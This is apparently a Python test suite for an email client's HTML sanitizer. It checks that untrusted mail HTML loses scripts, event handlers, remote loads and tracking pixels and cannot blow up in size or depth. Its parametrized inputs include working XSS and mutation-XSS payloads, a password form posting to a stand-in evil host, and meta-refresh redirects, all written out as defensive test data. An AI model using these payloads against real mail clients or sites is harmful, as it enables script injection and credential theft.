"""A stranger's HTML is harmless, loads nothing, and cannot exhaust us."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from channels.mail.limits import LIMITS
from channels.mail.markup import has_markup
from channels.mail.sanitize import sanitize_html


def clean(html: str) -> str:
    return sanitize_html(html)[0]


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" &#106;avascript:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=https://evil.example></iframe>",
        '<form action="https://evil.example"><input name=password></form>',
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        '<base href="https://evil.example/">',
        '<link rel=stylesheet href="https://evil.example/x.css">',
        '<div id=login class=btn style="position:fixed;top:0">x</div>',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        '<a ="><img src=x onerror=alert(1)>',
    ],
)  # fmt: skip
def test_nothing_runs_or_poses(html: str) -> None:
    result = clean(html).lower()
    for harmful in ("<script", "onerror=", "onload=", "javascript:", "<iframe", "<form", "<meta", "<base", "<link",
                    "<svg", "<math", "position", "id=", "class=", 'href="data:'):  # fmt: skip
        assert harmful not in re.sub(r'title="[^"]*"', "", result)


@pytest.mark.parametrize(
    "html",
    [
        '<img src="https://tracker.example/1.gif">',
        "<img src=//tracker.example/1.gif>",
        '<img SRC=" HTTP://tracker.example/1.gif">',
        '<img srcset="https://tracker.example/1.gif 2x">',
        '<table background="https://tracker.example/1.gif"><tr><td background=https://tracker.example/2.gif>x</table>',
        '<div style="background:url(https://tracker.example/1.gif)">x</div>',
        '<div style="background-color:url(https://tracker.example/1.gif)">x</div>',
        "<style>@import url(https://tracker.example/x.css)</style>",
        '<video src="https://tracker.example/1.mp4" poster="https://tracker.example/1.gif"></video>',
        '<input type=image src="https://tracker.example/1.gif">',
    ],
)
def test_nothing_is_loaded_from_the_net(html: str) -> None:
    result = re.sub(r'data-remote-src="[^"]*"', "", clean(html))
    assert "tracker.example" not in result


def test_a_remote_image_can_be_loaded_on_demand() -> None:
    assert clean('<img src="https://x.example/a.png?b=1&c=2" width="5">') == (
        '<img data-remote-src="https://x.example/a.png?b=1&amp;c=2" width="5">'
    )


def test_images_of_the_message_stay() -> None:
    html = '<img src="cid:part1@x"><img src="data:image/png;base64,AAAA">'
    assert clean(html) == html
    assert clean('<img src="data:image/svg+xml;base64,AAAA">') == "<img>"


def test_formatting_stays() -> None:
    html = '<p style="color:red">a<b>b</b></p><table><tbody><tr><td colspan="2">c</td></tr></tbody></table>'
    assert clean(html) == html


def test_colours_stay_and_addresses_in_styles_do_not() -> None:
    assert clean('<p style="color:rgb(1, 2, 3);border:url(//x.example)">a</p>') == '<p style="color:rgb(1, 2, 3)">a</p>'


def test_tables_in_tables_stay() -> None:
    inner = "<table><tbody><tr><td>1</td></tr></tbody></table>"
    html = f"<table><tbody><tr><td>{inner}2</td><td>3</td></tr></tbody></table>"
    assert clean(html) == html


def test_what_stands_between_cells_gets_a_cell() -> None:
    assert clean("<table>a<tr>b<td>c</td>d</tr></table>e") == (
        "<table><tbody><tr><td>a</td></tr><tr></tr><tr><td>b</td><td>c</td></tr><tr><td>d</td></tr></tbody></table>e"
    )
    assert clean("<table><table>a</table></table>b").endswith("b")
    assert clean("<table><tr><b>x</b></tr></table>").startswith("<table>")


def test_links_stay_and_tell_nothing() -> None:
    assert clean('<a href="https://x.example/?a=1&b">x</a>') == (
        '<a href="https://x.example/?a=1&amp;b" rel="noopener noreferrer nofollow">x</a>'
    )


def test_text_is_not_double_escaped() -> None:
    assert clean("5 &lt; 6 &amp; a < b &aacute;") == "5 &lt; 6 &amp; a &lt; b á"


@given(st.text(st.sampled_from("<>&ampltx; \xa0\n#5\"'é")))
def test_a_text_labelled_as_html_comes_out_as_it_would_between_tags(text: str) -> None:
    assume(not has_markup(f"x{text}x"))
    assert f"<p>{clean(f'x{text}x')}</p>" == clean(f"<p>x{text}x</p>")


@pytest.mark.parametrize("sign", ["&", "&amp;", "\xa0", "\n", "<", "a"])
def test_a_long_text_comes_out_whole(sign: str) -> None:
    once = clean(f"<pre>a{sign}a</pre>").removeprefix("<pre>a").removesuffix("a</pre>")
    assert clean(f"<pre>a{sign * 25_001}a</pre>") == f"<pre>a{once * 25_001}a</pre>"
    assert clean(f"<p>{f'a{sign}<x>' * 12_000}</p>") == f"<p>{f'a{once}' * 12_000}</p>"


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 100_000,
        "<div></span>" * 50_000,
        "<div><!--</div>-->" * 30_000,
        '<div title="</div>">' * 30_000,
        "<div <x></x>" * 30_000,
        "<b><p>" * 50_000,
    ],
)
def test_nesting_is_cut(html: str) -> None:
    result, _ = sanitize_html(html)
    depth = deepest = 0
    for tag in re.findall(r"<(/?)(?:div|b|p)\b", result):
        depth += -1 if tag else 1
        deepest = max(deepest, depth)
    assert deepest <= 2 * LIMITS.html_depth


@pytest.mark.parametrize(
    "html",
    [
        "<table>x</table>" * 20_000,
        "<table>" + "x<br>" * 60_000,
        "<table>" + "<tr>x</tr>" * 30_000,
        "<font color=red>" * 400 + "<p>x" * 100_000,
        "&amp" * 100_000,
        "<a " + " ".join(f"a{number}" for number in range(50_000)) + ">",
    ],
)
def test_hostile_documents_stay_small(html: str) -> None:
    assert len(clean(html)) < 10 * len(html) + 1000


class _Reader(HTMLParser):
    """What a browser would find in a result."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


_PIECES = st.sampled_from(
    ["<", ">", "</", "a", "img", "script", " ", "src", "href", "onclick", "=", '"', "'", "javascript:", "http:", "//x",
     "cid:x", "<!--", "-->", "style", "table", "td", "b", "div", "&lt;", "&", "svg", "title", "/", "\n", "x"]
)  # fmt: skip


@given(st.lists(_PIECES, max_size=60))
def test_whatever_comes_only_known_things_go_out(pieces: list[str]) -> None:
    reader = _Reader()
    reader.feed(clean("".join(pieces)))
    for tag, attributes in reader.found:
        assert tag not in {"script", "svg", "style", "title"}
        for name, value in attributes:
            assert name in {"src", "href", "rel", "style", "title", "data-remote-src"}
            if name == "src":
                assert (value or "").lower().startswith(("cid:", "data:image/"))
            if name == "href":
                assert (value or "").lower().strip().startswith(("http:", "https:", "mailto:", "tel:"))
